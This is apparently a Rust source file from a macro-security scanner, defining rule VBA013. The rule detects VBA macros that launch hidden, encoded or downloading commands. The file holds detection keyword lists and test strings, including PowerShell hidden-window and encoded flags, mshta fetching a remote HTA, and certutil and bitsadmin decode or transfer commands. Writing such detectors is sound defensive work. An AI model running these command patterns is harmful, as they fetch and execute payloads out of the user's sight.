use super::statements::{SHOWN, place, proof, quoted_texts, same_statement, variables};
use super::string_building::hides_text;
use crate::findings::{Facts, Sink, declare_rule};
use crate::indicators::{MentionClass, fold_command, launchers};
use crate::vba::source::Action;
use crate::vba::view::Seen;

declare_rule! {
    /// ## What it finds
    /// A command that is kept from the person's eyes: an interpreter or launcher that is told to
    /// hide, to decode or to fetch (`powershell -w hidden`, `-enc`, `certutil -decode`, `mshta
    /// http…`); a script interpreter in a hidden window; or a hidden window for a command that the
    /// same procedure builds from letters.
    ///
    /// ## Why it matters
    /// That is what a macro does that has something to hide. Carets, backticks and empty quotes in
    /// the command are undone first.
    ///
    /// ## When it is innocent
    /// Scripts of administrators hide the black window: `cmd /c` with `net use`, `copy` or `del` is
    /// not reported for that alone.
    ///
    /// ## References
    /// ATT&CK T1564.003, T1059.001, T1059.003, T1140
    HIDDEN_COMMAND {
        id: "VBA013", name: "hidden-command", severity: High, confidence: Likely,
        attack: ["T1564.003", "T1059.001", "T1059.003"], since: "0.1.0"
    } => check
}

fn check(facts: &Facts<'_>, sink: &mut Sink<'_>) {
    for (project, view) in facts.live_projects() {
        let of_kind = |kind| view.seen(project).filter(move |seen| seen.sighting.kind == kind);
        let mut hidden = of_kind(Action::HiddenWindow).peekable();
        let mut builds: Vec<_> = view.seen(project).filter(hides_text).map(|seen| place(&seen)).collect();
        builds.sort_unstable();
        let mut runs: Vec<_> = of_kind(Action::ProcessStart).map(|seen| place(&seen)).collect();
        runs.sort_unstable();
        // Both are in the order of modules and lines.
        let mut is_hidden = |seen: &Seen<'_>| {
            let key = |seen: &Seen<'_>| (seen.location.part, seen.sighting.line);
            while hidden.next_if(|hidden| key(hidden) < key(seen)).is_some() {}
            hidden.peek().is_some_and(|hidden| same_statement(hidden, seen))
        };
        let found = view.seen(project).filter(|seen| match seen.sighting.kind {
            Action::ProcessStart => {
                let out_of_sight = is_hidden(seen);
                let texts = || quoted_texts(&seen.sighting.text).chain(seen.sighting.argument.as_deref());
                texts().any(|text| conceals(text, out_of_sight))
                    || out_of_sight
                        && !variables(&seen.sighting.text).is_empty()
                        && builds.binary_search(&place(seen)).is_ok()
            }
            // The command stands in a statement of its own, before the one that runs it.
            Action::CommandText => {
                let argument = seen.sighting.argument.as_deref().unwrap_or_default();
                conceals(argument, false) && runs.binary_search(&place(seen)).is_ok()
            }
            _ => false,
        });
        let mut proofs = Vec::new();
        let mut message = None;
        for seen in found {
            message.get_or_insert_with(|| format!("module {:?} runs a command that is hidden", seen.module));
            if proofs.len() < SHOWN {
                proofs.push(proof(&seen));
            }
        }
        proofs.dedup_by(|one, other| one.location == other.location);
        if let Some(message) = message {
            sink.report(&HIDDEN_COMMAND, message, proofs);
        }
    }
}

/// Whether a command line hides, decodes or fetches; `out_of_sight` says that its window is hidden.
fn conceals(text: &str, out_of_sight: bool) -> bool {
    const HIDES: [&str; 12] = [
        "-w hidden",
        "-wi hidden",
        "-win hidden",
        "-window hidden",
        "-windowstyle hidden",
        "-w 1 ",
        "/w hidden",
        "-enc",
        "-e ",
        "-ec ",
        "frombase64string",
        "vbhide",
    ];
    const FETCHES: [&str; 14] = [
        "http://",
        "https://",
        "ftp://",
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "invoke-webrequest",
        "iwr ",
        "net.webclient",
        "start-bitstransfer",
        "invoke-expression",
        "iex(",
        "iex ",
        "scrobj",
    ];
    const DECODES: [&str; 5] = ["-decode", "/decode", "-decodehex", "-urlcache", "/transfer"];
    let folded = fold_command(text);
    let command = folded.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| command.contains(word));
    let named = |names: &[&str]| launchers(&command).any(|name| names.contains(&name.name));
    let interprets =
        |class| matches!(class, MentionClass::Shell | MentionClass::Launcher | MentionClass::Downloader);
    let launched = launchers(&command).any(|name| interprets(name.class) && name.name != "explorer");
    let scripting = named(&["powershell", "pwsh", "mshta", "wscript", "cscript"]);
    if !launched {
        return false;
    }
    named(&["powershell", "pwsh"]) && has(&HIDES)
        || has(&FETCHES)
        || named(&["certutil", "bitsadmin"]) && has(&DECODES)
        || named(&["mshta", "rundll32"]) && (command.contains("javascript:") || command.contains("vbscript:"))
        || named(&["wmic"]) && command.contains("process call create")
        // Words of a command do not need two carets; a hidden name does.
        || text.matches('^').count() >= 2 && folded.len() != text.len()
        || command.matches(":~").count() >= 2
        || out_of_sight && scripting
}

#[cfg(test)]
mod tests {
    use super::conceals;

    #[test]
    fn commands_that_hide_decode_or_fetch_are_told_from_those_of_an_administrator() {
        let hidden = [
            "cmd /c powershell -w hidden -nop -c \"a\"",
            "p^ow^ershell -c a",
            "mshta http://one.invalid/a.hta",
            "certutil -decode a.txt a.exe",
            "cmd /c bitsadmin /transfer a http://one.invalid/a a",
            "wmic process call create a",
        ];
        let honest = [
            "cmd /c net use x: \\\\server\\share",
            "powershell -File report.ps1",
            "notepad a.txt",
            "cmd /c del a",
        ];
        assert_eq!(hidden.map(|text| conceals(text, false)), [true; 6]);
        assert_eq!(honest.map(|text| conceals(text, false)), [false; 4]);
        assert!(conceals("powershell -File report.ps1", true));
        assert!(!conceals("cmd /c net use x: \\\\server\\share", true));
    }
}
